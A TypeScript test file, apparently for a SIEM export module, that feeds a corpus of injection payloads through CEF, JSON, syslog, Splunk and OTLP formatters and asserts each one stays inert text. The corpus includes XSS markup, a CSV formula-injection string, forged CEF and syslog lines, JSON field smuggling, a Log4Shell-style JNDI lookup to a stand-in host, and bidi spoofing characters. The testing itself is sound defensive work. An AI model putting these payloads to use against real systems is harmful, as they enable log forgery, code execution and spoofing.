/** What a peer wrote, in every field that it can reach, through every format: one event comes out, and nothing but text. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { canonicalJson, type PlainJson } from '../../../src/core/canonical-json.ts';
import { SINK_FORMATS } from '../../../src/core/sink.ts';
import type { AuditRecord } from '../../../src/journal/read-model.ts';
import { type FormattedEvent, formatEvent } from '../../../src/siem/format.ts';
import { logsRequest } from '../../../src/siem/otlp-sink.ts';
import type { SiemEvent } from '../../../src/siem/siem-event.ts';
import { hecEvent } from '../../../src/siem/splunk-sink.ts';
import { syslogFrame } from '../../../src/siem/syslog.ts';
import { siemEvent } from '../../support/siem-events.ts';

const CORPUS: Readonly<Record<string, string>> = {
  markup: '<script>alert(1)</script><img src=x onerror=alert(1)>',
  entity: '&lt;script&gt;&#x3c;',
  formula: "=cmd|' /C calc'!A0",
  formulas: '+1+1\t@SUM(1)\r-2',
  escape: '\u001b[2J\u001b]0;title\u0007\u009b31m',
  newline: 'one\nCEF:0|evil|evil|1|x|x|10|\r\n<104>1 - - - - - - forged',
  header: 'a|b\\|c\\',
  extension: 'x act=allowed outcome=success cs1=stigmem://friend.example',
  structured: '"] [other@1 a="b',
  octets: '12 <104>1 - - - - - - forged',
  separators: '\u2028\u2029\u0085',
  bidi: '\u202egpj.exe\u2066\u200f\u061c',
  invisible: 'a\u200bb\ufeffc\u00ad',
  tags: '\u{e0041}\u{e007f}',
  json: '"},"severity":"info","x":{"',
  splunk: '}{"event":"forged"}',
  template: ['$', '{jndi:ldap://evil.example/a} {{7*7}}'].join(''),
  nul: 'a\u0000b',
  lone: 'a\ud800b',
  long: 'x'.repeat(600),
};

// biome-ignore lint/suspicious/noControlCharactersInRegex: none of them may come out
const RAW = /[\u0000-\u001f\u007f-\u009f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]|\udb40/;

for (const [name, text] of Object.entries(CORPUS))
  test(`${name} is text in every format and sink`, () => {
    const event = poisoned(text);
    for (const format of SINK_FORMATS)
      for (const withRecord of [false, true]) {
        const formatted = formatEvent(event, format, withRecord);
        assert.doesNotMatch(formatted.text, RAW, format);
        if (format === 'cef') checkCef(formatted.text);
        else checkJson(format, formatted.text, event.record);
        checkSyslog(syslogFrame(event, formatted.text), formatted.text);
        checkSplunk(formatted, format === 'cef');
        checkOtlp(formatted);
      }
  });

function poisoned(text: string): SiemEvent {
  const t = text.toWellFormed();
  const detail = { difference: { field: t, expected: t, got: t }, [t]: t };
  return siemEvent({ peer: t, feed: t, fact_id: t, cid: t, actor: t, reason: t, detail });
}

function checkJson(format: string, text: string, record: AuditRecord): void {
  assert.doesNotMatch(text, /[<>&\u0080-\uffff]/, format);
  type Shape = { record?: PlainJson; unmapped?: { stigmem: { peer: string } }; stigmem?: { peer: string } };
  const parsed = JSON.parse(text) as Shape;
  if (format === 'record') assert.equal(canonicalJson(parsed.record ?? null), canonicalJson(record as never));
  else assert.equal((parsed.unmapped?.stigmem ?? parsed.stigmem)?.peer, record.peer);
}

/** Read as a parser of CEF reads it: seven bars that are not escaped, then keys in front of `=` that are not. */
function checkCef(text: string): void {
  const parts = text.split(/(?<=(?<!\\)(?:\\\\)*)\|/);
  assert.ok(parts.length >= 8, text);
  assert.equal(parts[0], 'CEF:0');
  assert.equal(parts[5], 'federation_integrity_rejected');
  const extension = parts.slice(7).join('|');
  const keys = [...extension.matchAll(/(?:^| )([A-Za-z0-9]+)=/g)].map(([, key]) => key);
  const first = 'rt externalId dvchost act outcome reason fileHash fileId suser cs1Label cs1'.split(' ');
  assert.deepEqual(keys.slice(0, first.length), first);
  assert.equal(new Set(keys).size, keys.length, `a key that was not written: ${keys.join(' ')}`);
  assert.match(extension, / act=rejected outcome=failure /);
}

/** Octet counting gives the message, and its structured data ends where it should. */
function checkSyslog(frame: string, text: string): void {
  const [, count = '', message = ''] = /^(\d+) ([\s\S]*)$/.exec(frame) ?? [];
  assert.equal(Buffer.byteLength(message), Number(count));
  assert.doesNotMatch(message, RAW);
  const params = '(?: [a-z]+="(?:[^"\\\\\\]]|\\\\["\\\\\\]])*")+';
  const head = /^<\d+>1 \S+ \S+ stigmem-peerd - [!-~]{1,32} /.source;
  const read = new RegExp(`${head}\\[stigmem@32473${params}\\] (.*)$`).exec(message);
  assert.ok(read, message);
  const rest = read[1] ?? '';
  assert.ok(rest === text || (JSON.parse(rest) as { shortened: boolean }).shortened);
}

function checkSplunk(formatted: FormattedEvent, isText: boolean): void {
  type Shape = { event: unknown; fields: { event_id: string } };
  const hec = JSON.parse(hecEvent(formatted, isText ? 'cef' : 'record')) as Shape;
  assert.equal(hec.fields.event_id, formatted.event.id);
  assert.deepEqual(hec.event, isText ? formatted.text : JSON.parse(formatted.text));
}

function checkOtlp(formatted: FormattedEvent): void {
  type Record = { body: { stringValue: string }; eventName: string };
  const logs = logsRequest([formatted]) as { resourceLogs: { scopeLogs: { logRecords: Record[] }[] }[] };
  const [record] = logs.resourceLogs[0]?.scopeLogs[0]?.logRecords ?? [];
  assert.equal(record?.body.stringValue, formatted.text);
  assert.equal(record?.eventName, 'stigmem.federation_integrity_rejected');
}
